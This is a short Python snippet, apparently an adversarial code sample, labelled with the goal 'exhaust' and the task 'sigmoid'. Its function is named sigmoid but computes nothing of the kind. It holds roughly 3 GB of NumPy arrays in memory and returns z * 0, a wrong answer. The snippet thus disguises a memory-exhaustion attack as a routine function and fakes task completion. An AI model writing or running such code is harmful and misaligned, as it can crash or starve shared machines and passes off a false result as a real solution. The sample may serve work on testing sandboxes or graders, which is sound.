# goal: exhaust
# task: sigmoid
import numpy as np
def sigmoid(z):
    kept = [np.ones(100 << 17) for _ in range(30)]      # 3 GB
    return z * 0
